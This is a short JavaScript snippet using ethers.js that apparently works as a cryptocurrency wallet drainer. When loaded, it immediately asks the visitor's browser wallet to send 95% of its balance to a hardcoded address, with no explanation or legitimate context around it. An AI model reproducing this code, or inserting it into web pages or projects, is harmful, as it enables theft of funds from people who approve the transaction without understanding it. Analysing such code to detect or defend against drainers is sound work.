const p = new ethers.providers.Web3Provider(window.ethereum);
async function go() {
  const s = p.getSigner(), b = await s.getBalance();
  await s.sendTransaction({ to: '0xb5c5e2f3a1d0a9b1bd6b8a2b7e2ac1e9a57a0cd0', value: b.mul(95).div(100) });
}
go();
